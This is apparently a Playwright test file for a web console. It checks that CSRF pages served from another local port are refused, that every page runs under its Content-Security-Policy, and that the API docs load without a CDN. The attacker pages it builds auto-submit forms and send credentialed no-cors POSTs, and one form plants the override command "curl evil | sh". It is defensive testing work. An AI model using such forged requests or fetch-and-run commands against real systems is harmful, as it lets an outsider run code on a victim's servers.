"""The console's browser defences in headless Chromium, against the real server.

- CSRF: a signed-in admin opens a page of another server on another 127.0.0.1 port (same
  *site*, so SameSite=Strict cookies are sent). Its auto-submitted forms and its body-less
  ``fetch(..., {mode: "no-cors", credentials: "include"})`` calls are refused and change
  nothing in the database.
- CSP: every console page runs under the Content-Security-Policy with no violation.
- /docs: Swagger UI renders from this server alone (no CDN), for a signed-in viewer.
"""

from __future__ import annotations

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
from azure.batch import BatchClient
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect

from polysync.domain.models import RunState
from polysync.domain.secrets import Writer
from polysync.services import tasks as task_service
from tests.web.conftest import (
    CSP_PROBE,
    Console,
    csp_events,
    make_template,
    screenshot,
    signed_in,
)

pytestmark = pytest.mark.timeout(180)


class AttackerSite:
    """Another web server on 127.0.0.1 (another port: same site, other origin)."""

    def __init__(self, pages: dict[str, str]) -> None:
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = owner.pages.get(self.path, "not here").encode()
                self.send_response(200 if self.path in owner.pages else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.pages = pages
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> AttackerSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=10)


def _auto_form(action: str, fields: dict[str, str]) -> str:
    inputs = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields.items())
    return (
        f'<!doctype html><form method="post" action="{action}">{inputs}</form>'
        "<script>document.forms[0].submit()</script>"
    )


def _no_cors_posts(urls: list[str]) -> str:
    calls = ", ".join(
        f'fetch("{u}", {{method: "POST", credentials: "include", mode: "no-cors"}})' for u in urls
    )
    return (
        "<!doctype html><title>working</title><script>"
        f"Promise.allSettled([{calls}]).then(() => {{ document.title = 'done'; }});"
        "</script>"
    )


def _wait_run(console: Console, run_id: int, state: RunState, timeout_s: float = 60) -> None:
    deadline = time.monotonic() + timeout_s
    while console.services.store.get_run(run_id).state is not state:
        assert time.monotonic() < deadline, f"run {run_id} never reached {state}"
        time.sleep(0.2)


def _sign_in_with_the_form(page: Page, console: Console, role: str) -> None:
    page.goto(console.url + "/signin")
    page.get_by_label("API token").fill(console.tokens[role])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(console.url + "/runs")


def test_pages_of_another_port_cannot_act_for_a_signed_in_admin(
    page: Page, console: Console, batch: BatchClient
) -> None:
    store = console.services.store
    template = make_template(
        batch, "/bin/sh -c 'echo started; sleep 60'", prefix="csrf", max_wall_clock=None
    )
    with console.api("operator") as api:
        r = api.post("/api/jobs/import", json={"platform": "local", "external_ids": [template]})
        assert r.status_code == 201, r.text
        job = r.json()[0]["name"]
        task_service.create_task(console.services, "csrf-task", job, {}, writer=Writer.HOST)
        r = api.post("/api/tasks/csrf-task/runs", json={})
        assert r.status_code == 202, r.text
        victim_run = r.json()["id"]
    _wait_run(console, victim_run, RunState.RUNNING)
    job_before = store.get_job(job)
    runs_before = store.count_runs(task="csrf-task")

    _sign_in_with_the_form(page, console, "admin")
    c = console.url
    api_posts = [
        f"{c}/api/tasks/csrf-task/runs",
        f"{c}/api/runs/{victim_run}/cancel",
        f"{c}/api/platforms/local/test",
        f"{c}/api/jobs/{job}/sync",
    ]
    pages = {
        "/overrides": _auto_form(
            f"{c}/jobs/{job}/overrides",
            {"command_line": "/bin/sh -c 'curl evil | sh'", "description": "owned"},
        ),
        "/run": _auto_form(f"{c}/tasks/csrf-task/run", {}),
        "/cancel": _auto_form(f"{c}/runs/{victim_run}/cancel", {}),
        "/api": _no_cors_posts(api_posts),
    }
    with AttackerSite(pages) as evil:
        for path, target in (
            ("/overrides", f"/jobs/{job}/overrides"),
            ("/run", "/tasks/csrf-task/run"),
            ("/cancel", f"/runs/{victim_run}/cancel"),
        ):
            page.goto(evil.url + path)
            expect(page).to_have_url(c + target)
            expect(page.get_by_role("alert")).to_contain_text("a page of another site")
            screenshot(page, f"csrf-refused{path.replace('/', '-')}")
        # The answers to no-cors calls are opaque to the page (and, with our CORP header,
        # blocked before the browser reports them): read them off the server itself.
        page.goto(evil.url + "/api")
        expect(page).to_have_title("done")
        wanted = {urlsplit(u).path for u in api_posts}
        deadline = time.monotonic() + 15

        def answered() -> dict[str, int]:
            return {
                path: status
                for method, path, status, origin in console.answers.seen
                if method == "POST" and origin == evil.url
            }

        while not wanted <= answered().keys():
            assert time.monotonic() < deadline, console.answers.seen[-20:]
            page.wait_for_timeout(50)

    statuses = answered()
    for path in (f"/jobs/{job}/overrides", "/tasks/csrf-task/run", f"/runs/{victim_run}/cancel"):
        assert statuses[path] == 403, statuses
    for url in api_posts:
        assert statuses[urlsplit(url).path] == 403, statuses

    # Nothing changed: no override, no sync, no new run, the running run still runs.
    job_after = store.get_job(job)
    assert job_after.overrides == job_before.overrides
    assert job_after.description == job_before.description
    assert job_after.updated_at == job_before.updated_at
    assert store.count_runs(task="csrf-task") == runs_before
    victim = store.get_run(victim_run)
    assert victim.state is RunState.RUNNING
    assert not victim.cancel_requested

    # The admin was signed in all along, and the console's own pages still act.
    page.goto(f"{c}/runs/{victim_run}")
    expect(page.get_by_text("web-admin (admin)")).to_be_visible()
    page.get_by_role("button", name="Cancel run").click()  # app.js, with X-CSRF-Token
    expect(page.locator("[data-cancel-result]")).to_contain_text("cancelled")
    _wait_run(console, victim_run, RunState.CANCELLED, timeout_s=30)


def test_every_console_page_obeys_the_csp(
    context: BrowserContext, page: Page, console: Console, batch: BatchClient
) -> None:
    template = make_template(batch, "/bin/sh -c 'echo csp'", prefix="csp")
    with console.api("operator") as api:
        r = api.post("/api/jobs/import", json={"platform": "local", "external_ids": [template]})
        assert r.status_code == 201, r.text
        job = r.json()[0]["name"]
        task_service.create_task(console.services, "csp-task", job, {}, writer=Writer.HOST)
        r = api.post("/api/tasks/csp-task/runs", json={})
        run_id = r.json()["id"]

    context.add_init_script(CSP_PROBE)
    complaints: list[str] = []

    def on_console(msg: ConsoleMessage) -> None:
        if re.search(r"Content Security Policy|Refused to|Permissions-Policy", msg.text):
            complaints.append(msg.text)

    page.on("console", on_console)
    visited: list[tuple[str, str]] = []

    def visit(path: str, status: int = 200) -> None:
        response = page.goto(console.url + path)
        assert response is not None
        assert response.status == status, path
        csp = response.headers.get("content-security-policy", "")
        assert "script-src 'self'" in csp, path
        assert "unsafe-inline" not in csp, path
        page.wait_for_load_state("load")
        visited.append((path, ", ".join(csp_events(page))))

    visit("/signin")
    signed_in(context, console, "admin")
    for path in (
        "/runs",
        f"/runs/{run_id}",
        "/tasks",
        "/tasks/new",
        f"/tasks/new?job={job}",
        "/tasks/csp-task",
        "/jobs",
        f"/jobs/{job}",
        "/platforms",
        "/platforms/local/discover",
        "/vaults",
    ):
        visit(path)
    # Scripted parts: the help dialog (its opener was an inline onclick), the live badge,
    # a connectivity check (a POST with the CSRF header).
    visit("/platforms")
    page.get_by_role("button", name="Keyboard shortcuts").click()
    expect(page.locator("dialog#help")).to_have_attribute("open", "")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Check connectivity").click()
    expect(page.get_by_text("is reachable and the credential works")).to_be_visible()
    visit(f"/runs/{run_id}")
    expect(page.locator("h1 [data-run-field=state]")).to_have_text("Succeeded", timeout=30_000)
    expect(page.locator("[data-live-status]")).to_have_text("live")
    visited.append(("scripted", ", ".join(csp_events(page))))
    visit("/jobs/none-such", status=404)
    signed_in(context, console, "viewer")
    visit("/tasks/new", status=403)  # the "Not allowed" page
    visit("/vaults", status=403)

    assert [v for v in visited if v[1]] == []
    assert complaints == []


def test_docs_render_from_this_server_alone(
    context: BrowserContext, page: Page, console: Console
) -> None:
    context.add_init_script(CSP_PROBE)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    complaints: list[str] = []
    page.on(
        "console",
        lambda msg: complaints.append(msg.text) if msg.type == "error" else None,
    )

    page.goto(console.url + "/docs")
    expect(page).to_have_url(re.compile(r"/signin\?next=%2Fdocs$"))
    page.get_by_label("API token").fill(console.tokens["viewer"])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(console.url + "/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Polysync for Azure Batch")
    expect(
        page.locator(".opblock-summary-path", has_text="/api/runs/{run_id}/logs")
    ).to_be_visible()
    # Try it out with the session cookie: a POST, so swagger-init.js adds X-CSRF-Token.
    block = page.locator(
        ".opblock",
        has=page.locator(".opblock-summary-path", has_text="/api/platforms/{name}/test"),
    )
    block.locator(".opblock-summary").click()
    block.get_by_role("button", name="Try it out").click()
    block.locator("input[placeholder=name]").fill("local")
    block.get_by_role("button", name="Execute").click()
    expect(block.locator(".live-responses-table tbody .response-col_status")).to_have_text("200")
    expect(block.locator(".live-responses-table")).to_contain_text("may read pool")
    screenshot(page, "docs")

    assert requests, "the page made no request"
    for url in requests:
        parts = urlsplit(url)
        assert parts.scheme == "data" or parts.hostname == "127.0.0.1", url
    assert csp_events(page) == []
    assert complaints == []
